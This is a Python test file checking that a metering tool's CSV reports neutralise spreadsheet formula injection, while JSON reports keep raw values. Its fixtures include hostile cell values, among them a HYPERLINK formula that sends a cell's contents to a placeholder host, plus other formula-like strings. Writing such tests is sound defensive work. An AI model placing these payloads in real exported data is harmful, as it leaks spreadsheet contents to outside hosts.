"""CSV exports neutralise formulas (OWASP): a string cell that a spreadsheet would
run (``=``, ``+``, ``-``, ``@``, tab, carriage return first) gets a leading ``'``;
numbers stay numbers. JSON keeps the raw values."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner

from metering import FrozenClock, Limit, Meter
from metering.cli import main
from metering.reports.export import neutralise

NOW = datetime(2026, 11, 10, 12, 0, tzinfo=UTC)
SUBJECTS = ('=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "org-ok")
LIMIT = "-cmd"  # a valid limit name that starts with a minus


@pytest.fixture
def hostile(db_url: str) -> Iterator[Meter]:
    """Subjects and a limit name that spreadsheets read as formulas, each denied once."""
    with Meter(db_url, clock=FrozenClock(NOW)) as meter:
        meter.set_limit(Limit(LIMIT, maximum=1, period="1d", window="calendar"))
        for subject in SUBJECTS:
            meter.consume(subject, LIMIT)
            assert not meter.consume(subject, LIMIT).allowed
        yield meter


def report(meter: Meter, *args: str) -> str:
    result = CliRunner().invoke(main, ["--database", meter.url, "report", *args])
    assert result.exit_code == 0, (result.output, result.exception)
    return result.stdout


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("org-a", "org-a"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_overage_csv_cells_never_start_a_formula(hostile: Meter) -> None:
    out = report(hostile, "overage", "--period", "2026-11", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert sorted(r["subject"] for r in rows) == sorted(
        s if s == "org-ok" else "'" + s for s in SUBJECTS
    )
    for row in rows:
        assert row["limit"] == "'" + LIMIT
        assert row["maximum"] == "1" and row["used"] == "1" and row["denied_events"] == "1"
        assert not row["subject"].startswith(("=", "+", "-", "@", "\t", "\r"))
    as_json = json.loads(report(hostile, "overage", "--period", "2026-11", "--format", "json"))
    assert sorted(item["subject"] for item in as_json["rows"]) == sorted(SUBJECTS)


def test_usage_csv_cells_never_start_a_formula(hostile: Meter) -> None:
    out = report(hostile, "usage", "--subject", "-2+3", "--format", "csv")
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["subject"] == "'-2+3" and row["limit"] == "'-cmd" and row["used"] == "1"
